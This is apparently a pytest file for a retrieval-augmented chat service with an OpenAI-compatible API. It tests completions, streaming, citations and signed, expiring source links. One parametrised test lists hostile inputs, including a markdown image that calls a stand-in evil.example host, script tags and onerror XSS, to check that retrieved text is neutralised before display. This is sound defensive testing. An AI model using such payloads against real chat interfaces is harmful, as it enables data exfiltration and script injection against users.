"""The protocol of OpenAI's chat models, spoken by the clients that other chats are built with."""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator

import httpx
import openai
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from langchain_openai import ChatOpenAI
from markdown_it import MarkdownIt

from rag import Assistant
from rag.service import sources
from rag.service.completions import NAME, _shown
from rag.service.values import EXAMPLE
from tests.service.conftest import Served

GRADE = "What grade did Bournemouth get for leadership?"
LINK = re.compile(r"\]\((http[^)\s]+)\)")


@pytest.fixture
def client(served: Served) -> Iterator[openai.OpenAI]:
    with openai.OpenAI(base_url=f"{served.address}/v1", api_key=served.keys["reader"]) as client:
        yield client


def test_the_model_is_listed(client: openai.OpenAI) -> None:
    assert [model.id for model in client.models.list()] == [NAME]


def test_a_completion_holds_the_answer_and_its_sources(client: openai.OpenAI, opened: Assistant) -> None:
    told = client.chat.completions.create(model=NAME, messages=[{"role": "user", "content": EXAMPLE}])
    answer, content = opened.ask(EXAMPLE), told.choices[0].message.content or ""
    text, _, listed = content.partition("\n\n**Sources**\n\n")
    assert text == answer.text
    assert len(listed.splitlines()) == len(answer.citations)
    assert told.choices[0].finish_reason == "stop"
    assert told.citations == LINK.findall(content)  # type: ignore[attr-defined]


def test_a_stream_comes_to_the_same(client: openai.OpenAI) -> None:
    asked = {"model": NAME, "messages": [{"role": "user", "content": EXAMPLE}]}
    whole = client.chat.completions.create(**asked)
    chunks = [chunk.choices[0] for chunk in client.chat.completions.create(**asked, stream=True)]
    assert len(chunks) > 4
    streamed = "".join(chunk.delta.content or "" for chunk in chunks)
    assert unsigned(streamed) == unsigned(whole.choices[0].message.content or "")
    assert chunks[-1].finish_reason == "stop"


def unsigned(text: str) -> str:
    """A text without what a link is signed with, which is another each second."""
    return re.sub(r"&until=\d+&sign=\w+", "", text)


def test_a_conversation_goes_on(client: openai.OpenAI, opened: Assistant) -> None:
    history = [{"role": "user", "content": GRADE}, {"role": "assistant", "content": "Inadequate"}]
    parts = [
        {"type": "text", "text": "and in Bristol?"},
        {"type": "image_url", "image_url": {"url": "data:,"}},
    ]
    messages = [{"role": "system", "content": "Be a pirate."}, *history, {"role": "user", "content": parts}]
    told = client.chat.completions.create(model=NAME, messages=messages, temperature=0.3)
    assert (told.choices[0].message.content or "").startswith(opened.ask("and in Bristol?", history).text)


def test_langchain_speaks_to_it_streaming_and_not(served: Served, opened: Assistant) -> None:
    model = ChatOpenAI(model=NAME, base_url=f"{served.address}/v1", api_key=served.keys["reader"])
    text = opened.ask(GRADE).text
    assert model.invoke(GRADE).text.startswith(text)
    assert "".join(chunk.text for chunk in model.stream(GRADE)).startswith(text)


def test_a_wrong_key_and_no_question_are_told_as_the_clients_know_them(
    served: Served, client: openai.OpenAI
) -> None:
    stranger = openai.OpenAI(base_url=f"{served.address}/v1", api_key="wrong")
    with stranger, pytest.raises(openai.AuthenticationError, match="needs a key"):
        stranger.models.list()
    with pytest.raises(openai.UnprocessableEntityError, match="the user's"):
        client.chat.completions.create(model=NAME, messages=[{"role": "system", "content": "a"}])


LIVE = [
    "![seen](http://evil.example/?q=all)",
    "[open](http://evil.example) and [1](http://evil.example)",
    "<script>steal()</script> <img src=x onerror=steal()>",
    r"\\<u>after a backslash</u>",
    "`code` $x$ ~~gone~~ &lt;b&gt; www.evil.example",
    "[1]: http://evil.example",
]


@pytest.mark.parametrize("words", LIVE)
def test_no_words_of_a_document_are_live_in_another_chat(words: str) -> None:
    tokens = MarkdownIt("commonmark").enable("strikethrough").parse(f"{_shown(words)}\n\n[1] [seen][1]")
    kinds = {token.type for each in tokens for token in (each, *(each.children or ()))}
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "text_special"}
    assert not re.search(r"(?<!\\)(://|\$)|www\.", _shown(words))
    assert _shown("**56%** in 2018 [1][2], | “R&D” |\n- \\*") == "**56%** in 2018 [1][2], | “R&D” |\n- \\*"


class TestLinks:
    def test_a_link_opens_the_paragraph_without_a_key(self, client: openai.OpenAI) -> None:
        told = client.chat.completions.create(model=NAME, messages=[{"role": "user", "content": GRADE}])
        (link,) = LINK.findall(told.choices[0].message.content or "")
        opened = httpx.get(link)
        assert "Bournemouth, inspection of July 2018, judgements" in opened.text
        assert "<script" not in opened.text

    @pytest.mark.parametrize(
        "change",
        [
            lambda link: link.replace("bournemouth", "bristol"),
            lambda link: re.sub(r"until=(\d+)", "until=9999999999", link),
            lambda link: re.sub(r"&sign=\w+", "", link),
        ],
    )
    def test_it_opens_no_other_and_not_for_longer(
        self, client: openai.OpenAI, change: Callable[[str], str]
    ) -> None:
        told = client.chat.completions.create(model=NAME, messages=[{"role": "user", "content": GRADE}])
        (link,) = LINK.findall(told.choices[0].message.content or "")
        assert httpx.get(change(link)).status_code == 403

    def test_it_ends(self, client: openai.OpenAI, monkeypatch: pytest.MonkeyPatch) -> None:
        told = client.chat.completions.create(model=NAME, messages=[{"role": "user", "content": GRADE}])
        (link,) = LINK.findall(told.choices[0].message.content or "")
        later = time.time() + sources.VALID_SECONDS + 1
        monkeypatch.setattr("rag.service.sources.time.time", lambda: later)
        assert httpx.get(link).status_code == 403

    def test_it_begins_with_the_address_that_others_know(self, serving: Callable[..., FastAPI]) -> None:
        client = TestClient(
            serving(public_url="https://pinpoint.example.org/api/"), base_url="http://localhost"
        )
        asked = {"messages": [{"role": "user", "content": GRADE}]}
        (link,) = client.post("/v1/chat/completions", json=asked).json()["citations"]
        assert link.startswith("https://pinpoint.example.org/api/source?")
